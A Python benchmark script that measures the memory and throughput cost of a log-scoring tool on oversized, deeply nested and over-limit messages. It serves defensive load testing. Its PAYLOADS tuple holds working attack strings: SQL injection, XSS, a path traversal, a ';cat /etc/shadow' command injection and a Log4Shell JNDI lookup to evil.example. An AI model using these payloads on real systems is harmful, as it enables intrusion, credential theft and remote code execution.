"""What hostile but valid messages cost: ``score`` and the stream on them, beside ordinary traffic, in one run.

    python bench/hostile.py [--events ../shared/data/fwaf-holdout.csv] [--messages 250]
                            [--flood 150] [--json bench/results/hostile.json] [--score-only]
                            [--timeout-s 600]

1. **score**: ``logsentry score`` (the bundled model, a fresh process each) on a file of
   ``--messages`` messages of each hostile shape below, every one under the 1,000,000-byte
   message limit unless it is the over-limit shape, and on the ordinary traffic of
   ``--events`` (its request logs, repeated to 40 MB): peak RSS of the process (from the
   kernel's accounting of the child, ``wait4``) and time per input byte, beside ordinary's;
2. **stream**: one ``logsentry stream`` process draining a topic of ``--flood`` valid 990 KB
   requests (a quarter hide a real payload), and one draining the ordinary traffic, through
   a local broker on the same cores: bytes/s and peak RSS (``VmHWM``) of each.

Targets of the bounded-cost issue: ``score`` on any of these files at most 400 MiB of peak RSS
and at most 3x ordinary traffic's time per byte; the stream under the flood at most 500 MiB and
at least 1/3 of ordinary traffic's bytes/s.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bench.common import local_broker, machine, write_results  # noqa: E402
from bench.scoring import SHARED, _produce, drain  # noqa: E402
from logsentry.model_store.bundled import bundled_store  # noqa: E402
from logsentry.stream.tools.replay import read_values  # noqa: E402

LIMIT = 1_000_000
PAYLOADS = (
    "' union select password from users--",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    ";cat /etc/shadow",
    "${jndi:ldap://evil.example/a}",
)


def _words(r: random.Random, n: int) -> str:
    vocabulary = ["".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(3, 9))) for _ in range(3_000)]
    out, size = [], 0
    while size < n:
        out.append(r.choice(vocabulary))
        size += len(out[-1]) + 1
    return " ".join(out)[:n]


def many_parameters(r: random.Random, i: int) -> bytes:
    """An ordinary search with 5,000 query parameters of 50 characters (~330 KB)."""
    query = {f"p{k}": "".join(r.choice("abcdefghij0123456789") for _ in range(50)) for k in range(5_000)}
    return json.dumps({"method": "get", "path": "/search", "statusCode": 200, "query": query}).encode()


def huge_value(r: random.Random, i: int) -> bytes:
    """One query value of 990 KB of words; every fourth hides a payload somewhere in it."""
    event: dict[str, Any] = {"method": "get", "path": "/search", "statusCode": 200, "query": {"q": ""}}
    text = _words(r, 990_000 - len(json.dumps(event)))
    if i % 4 == 0:
        payload = PAYLOADS[i // 4 % len(PAYLOADS)]
        at = r.randint(0, len(text) - len(payload))
        text = text[:at] + payload + text[at + len(payload) :]
    event["query"] = {"q": text}
    return json.dumps(event).encode()


def many_leaves(r: random.Random, i: int) -> bytes:
    """A JSON body of 300,000 empty objects: the most values a 1 MB message can hold."""
    return (
        b'{"method":"post","path":"/api/items","statusCode":200,"requestPayload":['
        + b",".join([b"{}"] * 300_000)
        + b"]}"
    )


def otlp_over_limit(r: random.Random, i: int) -> bytes:
    """An OTLP message of 14,000 log records (~910 KB): refused, over --max-records (10,000)."""
    record = {"attributes": [{"key": "url.path", "value": {"stringValue": "/a"}}]}
    return json.dumps({"resourceLogs": [{"scopeLogs": [{"logRecords": [record] * 14_000}]}]}).encode()


def deep(r: random.Random, i: int) -> bytes:
    """A request whose body nests 400,000 lists (~800 KB): refused, too deep."""
    return b'{"method":"post","path":"/a","requestPayload":' + b"[" * 400_000 + b"]" * 400_000 + b"}"


def over_limit(r: random.Random, i: int) -> bytes:
    """A 2 MB access-log line: refused, over the message limit, without being held."""
    return b'1.2.3.4 - - [10/Oct/2026:13:55:36 +0000] "GET /' + b"a" * 2_000_000 + b' HTTP/1.1" 200 2326 "-" "x"'


SHAPES: dict[str, Callable[[random.Random, int], bytes]] = {
    "5,000 parameters (330 KB, scored)": many_parameters,
    "one 990 KB value (scored)": huge_value,
    "300,000 JSON values (scored)": many_leaves,
    "OTLP over the record limit (refused)": otlp_over_limit,
    "nested 400,000 deep (refused)": deep,
    "2 MB lines (refused unread)": over_limit,
}


def _score(path: Path, timeout_s: float) -> dict[str, float]:
    """A fresh ``logsentry score`` on ``path``: seconds, and the child's peak RSS from the kernel;
    killed past ``timeout_s`` (then ``timed_out`` and the peak so far)."""
    started = time.perf_counter()
    proc = subprocess.Popen(
        [sys.executable, "-m", "logsentry", "score", "--store", str(bundled_store().root), str(path)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        cwd=ROOT,
    )
    timed_out = False
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            break
        if time.perf_counter() - started > timeout_s:
            proc.kill()
            timed_out = True
        time.sleep(0.05)
    seconds = time.perf_counter() - started
    if not timed_out and os.waitstatus_to_exitcode(status) != 0:
        raise RuntimeError(f"score {path.name} failed")
    out = {"seconds": seconds, "peak_rss_mib": usage.ru_maxrss / 1024, "bytes": path.stat().st_size}
    return out | ({"timed_out": True} if timed_out else {})


def score_files(ordinary: list[bytes], messages: int, work: Path, timeout_s: float) -> dict[str, Any]:
    repeated = []
    while sum(map(len, repeated)) < 40_000_000:
        repeated += ordinary
    plain = work / "ordinary.jsonl"
    plain.write_bytes(b"\n".join(repeated) + b"\n")
    out: dict[str, Any] = {"ordinary": _score(plain, timeout_s)}
    out["ordinary"]["messages"] = len(repeated)
    per_byte = out["ordinary"]["seconds"] / out["ordinary"]["bytes"]
    plain.unlink()
    for name, make in SHAPES.items():
        r = random.Random(1)
        path = work / "hostile.jsonl"
        with path.open("wb") as handle:
            for i in range(messages):
                handle.write(make(r, i) + b"\n")
        result = _score(path, timeout_s)
        result["messages"] = messages
        result["time_per_byte_vs_ordinary"] = result["seconds"] / result["bytes"] / per_byte
        out[name] = result
        path.unlink()
        print(f"score {name}: {result}", flush=True)
    return out


def stream(ordinary: list[bytes], flood: int, work: Path) -> dict[str, Any]:
    from kafka.admin import KafkaAdminClient, NewTopic

    r = random.Random(2)
    big = [huge_value(r, i) for i in range(flood)]
    store = bundled_store().root
    out: dict[str, Any] = {}
    with local_broker(work) as bootstrap:
        admin = KafkaAdminClient(bootstrap_servers=bootstrap)
        admin.create_topics([NewTopic("ordinary", 4, 1), NewTopic("flood", 4, 1)])
        admin.close()
        for topic, values in (("ordinary", ordinary), ("flood", big)):
            from kafka import KafkaProducer

            if topic == "flood":  # 990 KB messages: one per request
                producer = KafkaProducer(bootstrap_servers=bootstrap, acks=1, max_request_size=1_048_576)
                for value in values:
                    producer.send(topic, value=value)
                producer.flush()
                producer.close()
            else:
                _produce(bootstrap, topic, values)
            result = drain(bootstrap, topic, f"g-{topic}", store, work, [], len(values))
            mean_bytes = sum(map(len, values)) / len(values)
            result["bytes_per_s"] = result["events_per_s"] * mean_bytes
            result["messages"] = len(values)
            result["mean_message_bytes"] = mean_bytes
            out[topic] = result
            print(f"stream {topic}: {result}", flush=True)
    out["flood_bytes_per_s_vs_ordinary"] = out["flood"]["bytes_per_s"] / out["ordinary"]["bytes_per_s"]
    return out


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=Path, default=SHARED / "fwaf-holdout.csv")
    parser.add_argument("--messages", type=int, default=250)
    parser.add_argument("--flood", type=int, default=150)
    parser.add_argument("--json", type=Path, default=ROOT / "bench" / "results" / "hostile.json")
    parser.add_argument("--timeout-s", type=float, default=600.0, help="a score run killed past this (recorded)")
    parser.add_argument("--score-only", action="store_true", help="skip the stream (a checkout before the bounds)")
    args = parser.parse_args()
    ordinary = list(read_values(args.events))
    results: dict[str, Any] = {"machine": machine(), "events_file": args.events.name, "message_limit": LIMIT}
    with tempfile.TemporaryDirectory(prefix="logsentry-bench-") as tmp:
        results["score"] = score_files(ordinary, args.messages, Path(tmp), args.timeout_s)
        if not args.score_only:
            results["stream"] = stream(ordinary, args.flood, Path(tmp))
    write_results(args.json, results, table(results))
    return 0


def table(results: dict[str, Any]) -> list[str]:
    score = results["score"]
    lines = [
        f"machine: {results['machine']}",
        "",
        "| `logsentry score` on | MB | peak RSS MiB | seconds | time per byte ÷ ordinary |",
        "|---|---|---|---|---|",
    ]
    for name, r in score.items():
        ratio = r.get("time_per_byte_vs_ordinary", 1.0)
        killed = " (killed: over the time limit)" if r.get("timed_out") else ""
        lines.append(
            f"| {name} ({r['messages']:,} messages) | {r['bytes'] / 1e6:,.0f} | {r['peak_rss_mib']:.0f} | "
            f"{r['seconds']:.1f}{killed} | {ratio:.2f} |"
        )
    if "stream" not in results:
        return lines
    s = results["stream"]
    lines += ["", "| the stream draining | messages | MB/s | events/s | peak RSS MiB |", "|---|---|---|---|---|"]
    for topic in ("ordinary", "flood"):
        r = s[topic]
        lines.append(
            f"| {topic} | {r['messages']:,} | {r['bytes_per_s'] / 1e6:.2f} | {r['events_per_s']:,.0f} | "
            f"{r['peak_rss_mib']:.0f} |"
        )
    lines.append(f"\nflood bytes/s ÷ ordinary: {s['flood_bytes_per_s_vs_ordinary']:.2f}")
    return lines


if __name__ == "__main__":
    raise SystemExit(main())
